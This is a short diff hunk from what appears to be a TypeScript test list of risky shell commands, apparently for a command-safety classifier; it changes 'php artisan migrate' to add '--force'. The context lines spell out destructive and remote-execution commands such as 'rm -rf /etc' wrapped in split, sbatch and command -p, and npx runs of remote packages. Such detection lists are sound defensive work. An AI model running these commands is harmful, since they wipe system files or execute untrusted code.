@@ -138,7 +138,7 @@ const classes: readonly Siblings[] = [
       "split --filter='rm -rf /etc' a",
       "split --filter='sh -c $FILE' a",
       'command -p rm -rf /etc',
-      'php artisan migrate',
+      'php artisan migrate --force',
       'npx https://host.example/a.tgz',
       'npx github:someone/something',
       'sbatch --wrap="rm -rf /etc"',
